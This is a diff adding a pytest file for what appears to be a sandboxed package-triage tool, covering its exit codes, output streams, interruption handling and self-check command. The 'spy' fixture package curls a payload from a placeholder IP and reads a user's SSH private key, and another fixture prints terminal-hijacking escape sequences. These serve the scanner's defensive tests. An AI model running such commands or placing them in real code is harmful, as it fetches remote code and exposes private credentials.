@@ -1,0 +1,314 @@
+"""The command line: exit codes, what stands on which stream, and one clear message when something is in the way."""
+
+import json
+import os
+import socket
+import subprocess
+from pathlib import Path
+
+import pytest
+from conftest import Snakehook, Triage
+from standins import Discord, Index, Reply, wait_for
+
+from snakehook import MODES
+
+SPY = """
+import subprocess
+subprocess.run(["/usr/bin/curl", "-s", "http://198.51.100.7/payload"], check=False)
+open("/home/dev/.ssh/id_rsa").read()
+"""
+
+
+@pytest.fixture(autouse=True)
+def tiny(index: Index) -> None:
+    index.add_wheel("tiny", "1.0", {"tiny.py": "print('tiny was imported')\n"})
+    index.add_wheel("grumpy", "1.0", {"grumpy.py": "raise SystemExit(9)\n"})
+    index.add_wheel("spy", "1.0", {"spy.py": SPY})
+
+
+# --- exit codes -------------------------------------------------------------------------------------------------------
+
+
+def test_0_when_all_went_well_and_nothing_high_was_found(triage: Triage) -> None:
+    code, report, _ = triage("tiny", "--mode", "detonate")
+    assert (code, report["outcome"]) == (0, "ok")
+    assert [one for one in report["findings"] if one["severity"] == "high"] == []
+
+
+def test_1_when_something_high_was_found(triage: Triage) -> None:
+    code, report, _ = triage("spy", "--mode", "import")
+    assert code == 1
+    assert [one for one in report["findings"] if one["severity"] == "high"]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "blamed"),
+    [
+        ((), "command"),
+        (("explode",), "explode"),
+        (("triage",), "NAME"),
+        (("triage", "six"), "VERSION"),
+        (("triage", "six", "1.16.0", "extra"), "extra"),
+        (("triage", "six", "1.16.0", "--mode", "run"), "run"),
+        (("triage", "six", "1.16.0", "--colour"), "--colour"),
+        (("triage", "six[x]", "1.16.0"), "package_name"),
+        (("triage", "\u212aeras", "1.0"), "package_name"),
+        (("triage", "six", "*"), "version"),
+        (("triage", "six", ""), "version"),
+        (("triage", "six", "1.16.0", "--file-path", "x.py"), "file_path"),
+        (("triage", "six", "1.16.0", "--mode", "execute", "--file-path", "../x"), "file_path"),
+        (("triage", "six", "1.16.0", "--mode", "execute", "--entrypoint", "a b"), "entrypoint"),
+        (("triage", "six", "1.16.0", "--mode", "execute_module", "--module-name", "a-b"), "module_name"),
+        (("triage", "torch", "2.0"), "denylist"),
+        (("serve", "--listen", "8080"), "HOST:PORT"),
+    ],
+)
+def test_2_for_wrong_usage(snakehook: Snakehook, arguments: tuple[str, ...], blamed: str) -> None:
+    done = snakehook.run(*arguments)
+    assert done.returncode == 2
+    assert done.stdout == ""
+    assert blamed in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def test_a_name_that_looks_like_an_option_never_gets_to_pip(snakehook: Snakehook) -> None:
+    done = snakehook.run("triage", "--json", "--", "--pre", "1.0")
+    assert done.returncode == 2
+    assert "package_name" in done.stderr
+
+
+WITHOUT_TOOLS = {"NSJAIL_PATH": "/bin/false"}  # exists, and makes no jail
+
+
+def test_3_with_one_clear_message_when_no_jail_can_be_made(snakehook: Snakehook) -> None:
+    serve = snakehook.with_settings(API_TOKEN="t", DISCORD_WEBHOOK_URL="http://127.0.0.1:9/x", **WITHOUT_TOOLS)
+    for command in (("triage", "tiny", "1.0"), ("serve", "--listen", "127.0.0.1:0")):
+        done = serve.run(*command)
+        assert done.returncode == 3
+        assert done.stdout == ""
+        assert "Traceback" not in done.stderr
+        assert len([line for line in done.stderr.splitlines() if line.startswith("namespaces: ")]) == 1
+
+
+def test_3_without_nsjail_names_the_remedy(
+    snakehook: Snakehook, ordinary_home: tuple[Path, str], tmp_path: Path
+) -> None:
+    home, python = ordinary_home
+    libraries = tmp_path / "libraries"
+    libraries.mkdir()
+    for library in ("falcon", "waitress", "packaging"):
+        (libraries / library).symlink_to(home / library)
+    path = tmp_path / "bin"
+    path.mkdir()
+    # Not started as a script: the folder of a script is searched for modules, and here it has nsjail in it.
+    start = RUN_ELSEWHERE.format(program=str(home / "snakehook.py"))
+    bare = Snakehook([python, "-S", "-c", start], snakehook.environment)
+    without = {"PATH": path, "PYTHONPATH": libraries, "PYTHONDONTWRITEBYTECODE": 1, "JAIL_PYTHON_NAME": python}
+    done = bare.with_settings(**without).run("triage", "tiny", "1.0")
+    assert done.returncode == 3, done.stderr
+    assert done.stdout == ""
+    (line,) = done.stderr.splitlines()
+    assert "nsjail" in line
+    assert "NSJAIL_PATH" in line
+
+
+RUN_ELSEWHERE = (
+    "import importlib.util, sys; spec = importlib.util.spec_from_file_location('snakehook', {program!r});"
+    "module = importlib.util.module_from_spec(spec); sys.modules['snakehook'] = module;"
+    "spec.loader.exec_module(module); sys.exit(module.main())"
+)
+
+
+def test_4_for_another_outcome_with_nothing_high(triage: Triage) -> None:
+    code, report, _ = triage("grumpy", "--mode", "import")
+    assert (code, report["outcome"]) == (4, "failed")
+    assert "exit code 9" in report["reason"]
+
+
+def test_a_program_without_strace_works_and_says_what_it_did_not_see(
+    snakehook: Snakehook, jail: None, tmp_path: Path
+) -> None:
+    tools = tmp_path / "bin"
+    tools.mkdir()
+    for folder in ("/usr/bin", "/bin", "/usr/sbin", "/sbin"):
+        for tool in ("mount", "umount", "chmod", "rm"):
+            if Path(folder, tool).exists() and not (tools / tool).exists():
+                (tools / tool).symlink_to(Path(folder, tool))
+    code, report, _ = snakehook.triage("tiny", PATH=tools)
+    assert (code, report["outcome"]) == (0, "ok")
+    assert report["coverage"]["kernel_witness"] is False
+    assert any("strace" in note for note in report["coverage"]["notes"])
+
+
+# --- streams ----------------------------------------------------------------------------------------------------------
+
+
+def test_progress_is_on_stderr_and_the_report_on_stdout(snakehook: Snakehook, jail: None) -> None:
+    done = snakehook.run("triage", "tiny", "1.0", "--mode", "import")
+    assert done.returncode == 0
+    assert [line.split()[0] for line in done.stderr.splitlines()] == ["install", "import"]
+    assert "tiny 1.0" in done.stdout
+    assert "tiny was imported" in done.stdout
+    assert "..." not in done.stdout.splitlines()[0]
+
+
+def test_json_is_the_whole_report_and_nothing_else(snakehook: Snakehook, jail: None) -> None:
+    done = snakehook.run("triage", "Tiny", "v1.0", "--json")
+    report = json.loads(done.stdout)
+    assert (report["status"], report["request"]["package_name"], report["request"]["version"]) == (
+        "finished",
+        "tiny",
+        "1.0",
+    )
+    assert report["delivery"]["state"] == "refused"
+    assert "webhook" in report["delivery"]["last_error"]
+
+
+def test_html_writes_a_page_too(snakehook: Snakehook, jail: None, tmp_path: Path) -> None:
+    page = tmp_path / "page.html"
+    done = snakehook.run("triage", "tiny", "1.0", "--json", "--html", str(page))
+    assert json.loads(done.stdout)["outcome"] == "ok"
+    assert page.read_text().lstrip().lower().startswith("<!doctype html>")
+    assert "tiny" in page.read_text()
+
+
+def test_a_page_that_can_t_be_written_does_not_cost_the_report(
+    snakehook: Snakehook, jail: None, tmp_path: Path
+) -> None:
+    done = snakehook.run("triage", "tiny", "1.0", "--json", "--html", str(tmp_path / "absent/page.html"))
+    assert "Traceback" not in done.stderr
+    assert "page.html" in done.stderr
+    assert done.returncode == 2 or json.loads(done.stdout)["outcome"] == "ok"  # before the run, or after the report
+
+
+def test_what_a_package_prints_can_t_act_in_the_terminal(snakehook: Snakehook, jail: None, index: Index) -> None:
+    index.add_wheel("actor", "1.0", {"actor.py": "print('\\x1b[2J\\x1b]0;owned\\x07', '\\u202e', '\\r', 'end')\n"})
+    done = snakehook.run("triage", "actor", "1.0", "--mode", "import")
+    assert done.returncode == 0
+    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(done.stdout)
+
+
+def test_the_report_can_be_printed_in_any_locale(snakehook: Snakehook, jail: None, index: Index) -> None:
+    index.add_wheel("worldly", "1.0", {"worldly.py": "print('na\\u00efve \\U0001f40d ' * 100)\n"})
+    done = snakehook.with_settings(PYTHONIOENCODING="ascii").run("triage", "worldly", "1.0", "--mode", "import")
+    assert done.returncode == 0, done.stderr
+    assert "worldly 1.0" in done.stdout
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_every_mode_can_be_asked_for(snakehook: Snakehook, mode: str) -> None:
+    done = snakehook.run("triage", "six", "*", "--mode", mode)
+    assert (done.returncode, done.stderr.split()[0]) == (2, "version")
+
+
+# --- interruption -----------------------------------------------------------------------------------------------------
+
+
+def test_sigterm_ends_a_run_with_its_report(snakehook: Snakehook, jail: None, index: Index) -> None:
+    index.add_backend_sdist("endless", "1.0", "import time\nwhile True: time.sleep(1)\n", {"endless.py": ""})
+    process = snakehook.start("triage", "endless", "1.0", "--json", stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        wait_for(lambda: ("GET", "/files/endless-1.0.tar.gz") in index.requests, 20)
+        process.terminate()
+        out, err = process.communicate(timeout=20)
+    finally:
+        process.kill()
+        process.wait()
+    report = json.loads(out)
+    assert (process.returncode, report["outcome"], report["status"]) == (4, "interrupted", "finished"), err
+
+
+# --- check ------------------------------------------------------------------------------------------------------------
+
+
+def checks(done: "subprocess.CompletedProcess[str]") -> dict[str, str]:
+    """The lines of `snakehook check`: what was looked at, and how it went."""
+    lines = [line.partition(":") for line in done.stdout.splitlines()]
+    return {head.split(maxsplit=1)[1]: head.split()[0] for head, _, detail in lines if detail.strip()}
+
+
+def test_check_looks_at_everything(snakehook: Snakehook, jail: None, discord: Discord) -> None:
+    done = snakehook.with_settings(DISCORD_WEBHOOK_URL=discord.url).run("check")
+    assert done.returncode == 0
+    found = checks(done)
+    for name in ("nsjail", "namespaces", "scratch tmpfs", "cgroups", "kernel witness", "index", "webhook"):
+        assert name in found
+    assert (found["nsjail"], found["namespaces"], found["index"], found["webhook"]) == ("ok",) * 4
+    assert discord.token not in done.stdout + done.stderr
+
+
+def test_check_says_what_an_ordinary_user_lacks(ordinary: Snakehook) -> None:
+    done = ordinary.run("check")
+    assert done.returncode == 0
+    assert checks(done)["scratch tmpfs"] == "lack"
+    assert "ordinary user" in done.stdout
+
+
+def test_check_says_what_is_missing_with_the_remedy(snakehook: Snakehook) -> None:
+    done = snakehook.with_settings(**WITHOUT_TOOLS).run("check")
+    assert done.returncode == 3
+    assert "FAIL" in checks(done).values()
+    assert "Traceback" not in done.stdout + done.stderr
+
+
+def test_check_tells_an_index_and_a_webhook_that_do_not_answer(snakehook: Snakehook, jail: None) -> None:
+    with socket.socket() as closed:
+        closed.bind(("127.0.0.1", 0))
+        nobody = f"http://127.0.0.1:{closed.getsockname()[1]}"
+        settings = {"PIP_INDEX_URL": f"{nobody}/simple", "DISCORD_WEBHOOK_URL": f"{nobody}/api/webhooks/1/s3cr3t-w0rd"}
+        done = snakehook.with_settings(**settings).run("check")
+    found = checks(done)
+    assert (found["index"], found["webhook"]) == ("lack", "lack")
+    assert "s3cr3t" not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize(
+    "page", ["<html></html>", "[]", '{"files": [{}]}', '{"a":' * 50_000], ids=lambda page: page[:8]
+)
+def test_check_tells_an_index_that_speaks_another_language(
+    snakehook: Snakehook, jail: None, index: Index, page: str
+) -> None:
+    index.answer("/simple/pip/", Reply(200, page))
+    done = snakehook.run("check")
+    assert checks(done)["index"] == "lack"
+    assert "Traceback" not in done.stderr
+
+
+def test_a_jail_python_without_pip_is_told_with_the_remedy(snakehook: Snakehook, jail: None, tmp_path: Path) -> None:
+    done = snakehook.with_settings(JAIL_PYTHON_NAME="/bin/sh").run("check")
+    assert done.returncode == 3
+    assert "JAIL_PYTHON_NAME" in done.stdout
+    assert "python3-pip" in done.stdout
+
+
+# --- the real index ---------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def online(snakehook: Snakehook, jail: None) -> Snakehook:
+    """The program with pip's own index and its certificates; skips where that can't be reached."""
+    certificates = {name: os.environ[name] for name in ("SSL_CERT_FILE", "SSL_CERT_DIR") if name in os.environ}
+    online = snakehook.with_settings(PIP_INDEX_URL=None, **certificates)
+    lines = [line for line in online.run("check").stdout.splitlines() if " index: " in line]
+    if not lines or not lines[0].startswith("ok"):
+        pytest.skip(f"pip's own index can't be reached: {lines}")
+    return online
+
+
+@pytest.mark.pypi
+def test_requests_from_the_real_index(online: Snakehook) -> None:
+    done = online.run("triage", "requests", "2.32.3", "--json")
+    report = json.loads(done.stdout)
+    assert (done.returncode, report["outcome"]) == (0, "ok"), report["reason"]
+    assert "Successfully installed" in report["phases"][0]["stdout"]["text"]
+    files = [one["file"] for one in report["downloads"]]
+    assert "requests-2.32.3-py3-none-any.whl" in files
+    assert len(files) >= 5  # with its dependencies
+
+
+@pytest.mark.pypi
+def test_six_from_the_real_index_is_harmless_in_every_phase(online: Snakehook) -> None:
+    done = online.run("triage", "six", "1.16.0", "--mode", "detonate", "--json")
+    report = json.loads(done.stdout)
+    assert (done.returncode, report["outcome"]) == (0, "ok"), report["reason"]
+    assert [phase["name"] for phase in report["phases"]] == ["install", "start", "import"]
